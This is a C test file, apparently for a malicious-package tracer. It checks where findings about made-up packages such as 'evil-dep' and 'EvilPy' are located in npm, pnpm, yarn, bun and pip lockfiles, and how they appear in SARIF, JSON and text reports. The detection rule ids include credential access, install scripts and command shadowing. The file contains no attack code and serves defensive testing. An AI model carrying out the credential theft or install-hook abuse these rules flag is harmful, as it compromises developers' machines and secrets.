		CHECK(json_object_object_get_ex(run0, "tool", &v) && json_object_object_get_ex(v, "driver", &v) &&
		      json_object_object_get_ex(v, "rules", &rules) && json_object_array_length(rules) == R_NRULES);
		CHECK(json_object_object_get_ex(run0, "results", &res) &&
		      json_object_array_length(res) == r->nfindings);
		for (size_t i = 0; i < json_object_array_length(res); i++) {
			struct json_object *x = json_object_array_get_idx(res, i), *loc, *lvl;
			const char *uri;

			CHECK(json_object_object_get_ex(x, "ruleId", &v));
			CHECK(json_object_object_get_ex(x, "level", &lvl));
			CHECK(!strcmp(json_object_get_string(lvl), "error") || !strcmp(json_object_get_string(lvl), "warning") ||
			      !strcmp(json_object_get_string(lvl), "note"));
			CHECK(json_object_object_get_ex(x, "locations", &loc) && json_object_array_length(loc) == 1);
			loc = json_object_array_get_idx(loc, 0);
			CHECK(json_object_object_get_ex(loc, "physicalLocation", &loc) &&
			      json_object_object_get_ex(loc, "artifactLocation", &loc) &&
			      json_object_object_get_ex(loc, "uri", &v));
			uri = json_object_get_string(v);
			CHECK(uri && uri[0] != '/');  /* relative to the repository */
		}
	}
	json_object_put(j);
	free(s);
	report_free(r);
}

/* loc_of: the place findings_locate gave the first finding of (rule,
 * pkg): "file:line", or "-" for none */
static const char *loc_of(const struct report *r, const char *rule, const char *pkg)
{
	static char buf[512];

	for (size_t i = 0; i < r->nfindings; i++) {
		const struct finding *f = &r->findings[i];
		const char *name = f->owner >= 0 ? r->owners[f->owner]->name : NULL;

		if (strcmp(rule_info[f->rule].id, rule) || !name || strcmp(name, pkg))
			continue;
		if (!f->loc_file)
			return "-";
		snprintf(buf, sizeof(buf), "%s:%d", f->loc_file, f->loc_line);
		return buf;
	}
	return "no finding";
}

static struct facts *pip_facts_reqs(void)
{
	struct facts *f = pip_facts();

	put(f, PROJ "/reqs/dev.txt", "# dev\n--index-url http://127.0.0.1:1/\nflask==3.0\nEvilPy>=1.0 ; python_version>'3'\n");
	return f;
}

/* SARIF locations: the lockfile line of the package's entry, the -r
 * requirements file of a pip command, and a logical location only when
 * the project has no such file. */
static void test_sarif_locations(void)
{
	static char *argv[] = { "pip", "install", "-r", "reqs/dev.txt", NULL };
	struct session_info si = session();
	struct report *r = run(feed_attack, npm_facts, NULL);
	char *s;

	if (!r)
		return;
	CHECK_STR(loc_of(r, "credential-access", "evil-dep"), "package-lock.json:6");
	CHECK_STR(loc_of(r, "install-script", "evil-dep"), "package-lock.json:6");
	/* not in the lockfile: line 1 of it, a file that is in the repository */
	CHECK_STR(loc_of(r, "command-shadowing", "awsish"), "package-lock.json:1");
	report_free(r);
	r = run(feed_benign, npm_facts, NULL);
	if (r)
		CHECK_STR(loc_of(r, "install-script", "esbuild"), "package-lock.json:2");
	report_free(r);

	r = run(feed_pip, pip_facts, NULL);
	s = r ? render(r, FMT_SARIF) : NULL;
	if (r)
		CHECK_STR(loc_of(r, "install-script", "evilpy"), "-");
	/* no file to point at: name@version as a logical location, no path */
	CHECK(s && strstr(s, "\"fullyQualifiedName\": \"pip:evilpy@1.0\""));
	CHECK(s && !strstr(s, "PKG-INFO"));
	free(s);
	report_free(r);

	si.argc = 4;
	si.argv = argv;
	r = run(feed_pip, pip_facts_reqs, &si);
	if (r)
		CHECK_STR(loc_of(r, "install-script", "evilpy"), "reqs/dev.txt:4");
	report_free(r);
}

/* located: where the first (rule, pkg) finding of the feed points when
 * the project has only the file name with text (see alt_lock_name). */
static const char *located(void (*feed)(struct analyzer *), struct facts *(*facts)(void),
			   const char *rule, const char *pkg, const char *name, const char *text)
{
	static char buf[512];
	struct report *r;

	alt_lock_name = name;
	alt_lock_text = text;
	r = run(feed, facts, NULL);
	alt_lock_name = alt_lock_text = NULL;
	snprintf(buf, sizeof(buf), "%s", r ? loc_of(r, rule, pkg) : "no report");
	report_free(r);
	return buf;
}

static const char *locate_in_alt(const char *name, const char *text)
{
	return located(feed_attack, npm_facts, "credential-access", "evil-dep", name, text);
}

/* The other package managers' lockfiles: pnpm's packages entry, yarn's
 * block of the right version, bun's text lockfile. */
static void test_sarif_lockfiles(void)
{
	CHECK_STR(locate_in_alt(PROJ "/pnpm-lock.yaml",
		"lockfileVersion: '9.0'\n\nimporters:\n\n  .:\n    dependencies:\n"
		"      evil-dep:\n        specifier: ^6.6.0\n        version: 6.6.6\n\npackages:\n\n"
		"  evil-dep@6.6.5:\n    resolution: {integrity: sha512-y}\n\n"
		"  evil-dep@6.6.6:\n    resolution: {integrity: sha512-x}\n"), "pnpm-lock.yaml:16");
	CHECK_STR(locate_in_alt(PROJ "/pnpm-lock.yaml",
		"lockfileVersion: '6.0'\n\npackages:\n\n  /evil-dep@6.6.6(peer@1.0.0):\n    dev: false\n"),
		"pnpm-lock.yaml:5");
	CHECK_STR(locate_in_alt(PROJ "/yarn.lock",
		"# yarn lockfile v1\n\n\nevil-dep@^5.0.0:\n  version \"5.0.0\"\n\n"
		"\"evil-dep@^6.0.0\", evil-dep@^6.6.0:\n  version \"6.6.6\"\n  resolved \"http://x/\"\n"),
		"yarn.lock:7");
	CHECK_STR(locate_in_alt(PROJ "/yarn.lock",
		"__metadata:\n  version: 8\n\n\"evil-dep@npm:^6.6.0\":\n  version: 6.6.6\n"), "yarn.lock:4");
	CHECK_STR(locate_in_alt(PROJ "/bun.lock",
		"{\n  \"lockfileVersion\": 1,\n  \"packages\": {\n"
		"    \"evil-dep\": [\"evil-dep@6.6.6\", \"\", {}, \"sha512-x\"],\n  }\n}\n"), "bun.lock:4");
	/* no lockfile at all: the dependency's line in package.json */
	CHECK_STR(locate_in_alt(PROJ "/package.json", "{\n  \"name\": \"proj\",\n  \"devDependencies\": {\n"
		"    \"helper\": \"^1.0.0\",\n    \"evil-dep\" : \"^6.6.0\"\n  }\n}\n"), "package.json:5");
	/* npm's other lockfile */
	CHECK_STR(locate_in_alt(PROJ "/npm-shrinkwrap.json", "{\n  \"packages\": {\n"
		"    \"node_modules/helper/node_modules/evil-dep\": {\n      \"version\": \"6.6.6\"\n"),
		"npm-shrinkwrap.json:3");
}

static const char *pip_located(const char *name, const char *text)
{
	return located(feed_pip, pip_facts, "install-script", "evilpy", name, text);
}

static void test_sarif_pip_files(void)
{
	CHECK_STR(pip_located(PROJ "/requirements.txt", "# pinned\nevilpy-tools==1\nEvilPy==1.0\n"),
		  "requirements.txt:3");
	CHECK_STR(pip_located(PROJ "/pyproject.toml", "[project]\nname = \"proj\"\ndependencies = [\n"
		"  \"requests>=2\",\n  \"EvilPy[extra]>=1.0 ; python_version>'3'\",\n]\n"), "pyproject.toml:5");
	CHECK_STR(pip_located(PROJ "/pyproject.toml", "[tool.poetry.dependencies]\npython = \"^3.11\"\n"
		"evilpy = \"^1.0\"\n"), "pyproject.toml:3");
	CHECK_STR(pip_located(PROJ "/uv.lock", "version = 1\n\n[[package]]\nname = \"evilpy\"\nversion = \"1.0\"\n"),
		  "uv.lock:4");
	/* a file that does not name it: line 1 of it, still in the repository */
	CHECK_STR(pip_located(PROJ "/requirements.txt", "flask\n"), "requirements.txt:1");
}

static void test_text_grouped(void)
{
	struct report *r = run(feed_attack, npm_facts, NULL);
	char *s = r ? render(r, FMT_TEXT) : NULL;
	char *evil = s ? strstr(s, "evil-dep@6.6.6") : NULL, *aws = s ? strstr(s, "awsish@0.0.1") : NULL;

	CHECK(evil && aws && evil < aws);  /* most severe package first */
	CHECK(s && strstr(s, "CRITICAL"));
	CHECK(s && !strstr(s, "\033["));   /* no colour unless asked */
	free(s);
	report_free(r);
}

/* write_reports: with PKGTRACE_TEST_REPORTS=DIR, leaves the reports in DIR
 * for tests/it/analyze_schema.sh to validate against the schemas. */
static void write_reports(const char *dir)
{
	static const struct {
		const char *name;
		void (*feed)(struct analyzer *);
		struct facts *(*facts)(void);
		enum report_format fmt;
	} cases[] = {
		{ "attack.json", feed_attack, npm_facts, FMT_JSON },
		{ "benign.json", feed_benign, npm_facts, FMT_JSON },
		{ "pip.json", feed_pip, pip_facts, FMT_JSON },
		{ "attack.sarif", feed_attack, npm_facts, FMT_SARIF },
		{ "benign.sarif", feed_benign, npm_facts, FMT_SARIF },
	};

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct report *r = run(cases[i].feed, cases[i].facts, NULL);
		char path[4096];
		FILE *f;

		snprintf(path, sizeof(path), "%s/%s", dir, cases[i].name);
		f = fopen(path, "w");
		if (r && f)
			report_write(r, f, cases[i].fmt, false);
		if (f)
			fclose(f);
		report_free(r);
	}
}

int main(void)
{
	const char *dir = getenv("PKGTRACE_TEST_REPORTS");

	if (dir) {
		write_reports(dir);
		return 0;
	}
	TEST(test_benign_npm_stays_quiet);
	TEST(test_attack_transitive);
	TEST(test_fake_env_keeps_blame);
	TEST(test_env_cut_falls_back_to_cwd);
	TEST(test_pip_record_attribution);
	TEST(test_trace_incomplete);
	TEST(test_deterministic_output);
	TEST(test_json_fields);
	TEST(test_sarif_structure);
	TEST(test_sarif_locations);
	TEST(test_sarif_lockfiles);
	TEST(test_sarif_pip_files);
	TEST(test_text_grouped);
	UNIT_EXIT();
}
